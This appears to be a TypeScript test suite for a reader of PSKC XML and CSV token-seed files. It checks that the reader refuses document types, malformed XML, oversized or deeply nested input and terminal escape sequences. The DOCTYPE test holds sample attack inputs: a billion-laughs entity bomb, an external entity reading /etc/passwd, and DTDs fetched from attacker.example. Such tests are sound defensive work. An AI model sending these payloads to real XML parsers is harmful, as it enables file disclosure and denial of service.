import assert from 'node:assert/strict'
import { it } from 'node:test'
import fc from 'fast-check'
import { ApiError } from '../../src/core/errors.ts'
import { readHardwareFile, readHardwareFileBeside } from '../../src/core/hardware-files/index.ts'
import { container, encrypter, keyPackage, passwordEncrypter } from '../support/pskc-files.ts'

const key = new Uint8Array(16).fill(7)
const mebibyte = 1024 * 1024

const read = (text: string, keys = {}) => readHardwareFile(Buffer.from(text), keys)

function refuses(text: string, message: string | RegExp): void {
  assert.throws(() => read(text), { code: 'api.error.badrequest', message })
}

it('a document type is refused, whatever is declared in it: no entity is expanded, no file read', () => {
  const file = container([keyPackage({ serial: '&a;' })])
  const lols = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`)
  const doctypes = [
    `<!DOCTYPE KeyContainer [<!ENTITY l0 "lol">${lols.join('')}<!ENTITY a "&l9;">]>`,
    '<!DOCTYPE KeyContainer [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE KeyContainer SYSTEM "http://attacker.example/x.dtd">',
    '<!DOCTYPE KeyContainer [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
    '<!DOCTYPE KeyContainer>',
  ]
  for (const doctype of doctypes) {
    refuses(
      file.replace('<KeyContainer', `${doctype}<KeyContainer`),
      /^The file has a document type \(DOCTYPE\), which is refused/,
    )
  }
  refuses(file, 'The file is not well-formed XML (line 3).')
})

it('XML that is not well-formed is refused with its line', () => {
  const file = container([keyPackage()])
  const broken = [
    file.slice(0, -3),
    `${file}x`,
    `${file}<a/>`,
    file.replace('</Key>', ''),
    file.replace('<Data>', '<Data a=1>'),
  ]
  broken.push(
    file.replace('1000', '&#0;'),
    file.replace('1000', '&nbsp;'),
    file.replace('<Data>', '<x:Data>'),
    '<',
    '<!--',
  )
  for (const text of broken) refuses(text, /^The file is not well-formed XML \(line \d+\)\.$/)
})

it('nesting, text and elements without end are refused before they use memory', () => {
  const inside = (xml: string) => container([keyPackage({ more: xml })])
  refuses(
    inside('<a>'.repeat(100_000) + '</a>'.repeat(100_000)),
    /^The file’s XML is nested deeper than 32 elements\.$/,
  )
  refuses('<a>'.repeat(mebibyte), /nested deeper|not PSKC/)
  refuses(inside(`<a>${'x'.repeat(mebibyte)}</a>`), /more than 64 KiB of text \(line 3\)\.$/)
  refuses(inside(`<a>${'x<!-- -->'.repeat(100_000)}</a>`), /more than 64 KiB of text/)
  const attributes = Array.from({ length: 101 }, (_, index) => `a${index}=""`)
  refuses(
    inside(`<a ${attributes.join(' ')}/>`),
    /^The file has an element with more than 100 attributes \(line 3\)\.$/,
  )
  assert.equal(read(inside(`<a ${attributes.slice(1).join(' ')}/>`)).tokens.length, 1)
  refuses(inside('<a/>'.repeat(100_000)), /^The file has more than 1000 elements in one \(line 3\)\.$/)
})

it('a file at the limit of its size is read in reasonable time, whatever fills it', () => {
  const many = (piece: string) => piece.repeat(Math.floor((16 * mebibyte) / piece.length))
  const attributes = Array.from({ length: 200_000 }, (_, index) => ` a${index}="x"`).join('')
  const files = [many(' '), `<${many('a')}/>`, `<a ${attributes}/>`, many('"'), many(','), many('1,2\n'), many('\n')]
  files.push(container([keyPackage()]).replace('<KeyPackage>', `${many(' ')}<KeyPackage>`), `<!--${many('-')}`)
  for (const file of files) {
    // Of the processor, not of the clock: other tests run beside this one.
    const before = process.threadCpuUsage()
    outcomeOf(Buffer.from(file), {})
    const { user, system } = process.threadCpuUsage(before)
    assert.ok(user + system < 5_000_000, `${file.slice(0, 20)}: ${user + system} µs`)
  }
})

it('a file of more tokens than are read at once is refused, one of as many is not', () => {
  const row = (_: unknown, index: number) => `${index},3132333435363738393031323334353637383930`
  const rows = Array.from({ length: 100_000 }, row)
  const header = 'serial,hexseed'
  assert.equal(read(rows.join('\n')).tokens.length, 100_000)
  assert.equal(read([header, ...rows].join('\n')).tokens.length, 100_000)
  const message = 'The file has more than 100000 tokens. Split it.'
  refuses([...rows, 'x,31'].join('\n'), message)
  refuses([header, ...rows, 'x,31'].join('\n'), message)
  refuses(container(Array.from({ length: 100_001 }, () => '<KeyPackage/>')), message)
})

it('ten thousand tokens are read, each at its own line', () => {
  const packages = Array.from({ length: 10_000 }, (_, index) => keyPackage({ serial: `${index}` }))
  const { tokens, refused } = read(container(packages))
  assert.deepEqual(refused, [])
  assert.ok(tokens.every((token, index) => token.serialNumber === `${index}` && token.line === index + 3))
})

it('what is reported of a hostile file obeys no terminal and stays short', () => {
  const hostile = `&#x9b;31m\u202e\u009b${'x'.repeat(10_000)}`
  const [refused] = read(container([keyPackage({ algorithm: hostile })])).refused
  assert.match(refused?.problem ?? '', /^The key’s algorithm is “ 31m x{70,80}…”; only TOTP can be imported\.$/)
})

it('no input throws anything but the sentence for a file that cannot be used', () => {
  const sealed = encrypter(key)
  const derived = passwordEncrypter({ password: 'x' })
  const samples = [
    'serial,hexseed\n1,3132333435363738393031323334353637383930\n2,"31"\n',
    'upn,serial number,secret key,time interval\nx,1,GEZDGNBVGY3TQOJQ,30\n',
    container([keyPackage({ serial: '1' }), keyPackage({ serial: '2' })]),
    container([keyPackage({ secret: sealed.secret(key) })], sealed.header),
    container([keyPackage({ secret: derived.secret(key) })], derived.header),
  ].map((text) => new Uint8Array(Buffer.from(text)))
  const keys = fc.constantFrom({}, { password: 'x' }, { preSharedKey: key }, { preSharedKey: new Uint8Array() })
  const edit = fc.tuple(fc.nat(), fc.nat(8), fc.oneof(fc.uint8Array({ maxLength: 4 }), markup))
  const edited = fc.tuple(fc.constantFrom(...samples), fc.array(edit, { minLength: 1, maxLength: 4 })).map(applyEdits)
  const text = fc.string({ unit: 'binary' }).map((value) => new Uint8Array(Buffer.from(value)))
  fc.assert(fc.property(fc.oneof(edited, text, fc.uint8Array()), keys, outcomeOf), { numRuns: 5_000 })
})

const markup = fc
  .constantFrom(
    '<',
    '>',
    '/>',
    '"',
    ',',
    '\n',
    '&amp;',
    '&#x0;',
    ']]>',
    '<![CDATA[',
    '<!--',
    '__proto__',
    'xmlns="x"',
    '=',
  )
  .map((piece) => new Uint8Array(Buffer.from(piece)))

type Edit = [at: number, removed: number, added: Uint8Array]

function applyEdits([sample, edits]: [Uint8Array, Edit[]]): Uint8Array {
  return edits.reduce((bytes, [at, removed, added]) => {
    const position = at % bytes.length
    return Buffer.concat([bytes.subarray(0, position), added, bytes.subarray(position + removed)])
  }, sample)
}

/** Fails when something else than an ApiError is thrown, or when what is returned is not as promised. */
function outcomeOf(bytes: Uint8Array, keys: object): void {
  try {
    const { tokens, refused } = readHardwareFile(bytes, keys)
    for (const token of tokens) {
      assert.match(token.serialNumber, /^[ -~]{1,64}$/)
      assert.ok(token.seed.length >= 10 && token.seed.length <= 64)
      assert.ok(token.line >= 1)
    }
    for (const { line, problem } of refused) assert.ok(line >= 1 && problem.endsWith('.'), problem)
  } catch (error) {
    if (!(error instanceof ApiError)) throw error
    assert.equal(error.code, 'api.error.badrequest')
    assert.match(error.message, /\.$/)
  }
}

it('others have a turn while a file is read beside them', async () => {
  const csv = Array.from({ length: 10_000 }, (_, index) => `S-${index},zz`).join('\n')
  const pskc = container(Array.from({ length: 1_000 }, (_, index) => keyPackage({ serial: `S-${index}` })))
  for (const text of [csv, pskc]) {
    let turns = 0
    let next = setImmediate(function turn() {
      turns++
      next = setImmediate(turn)
    })
    const file = await readHardwareFileBeside(Buffer.from(text))
    clearImmediate(next)
    assert.deepEqual(file, read(text))
    assert.ok(turns >= 20, `${turns} turns`)
  }
})
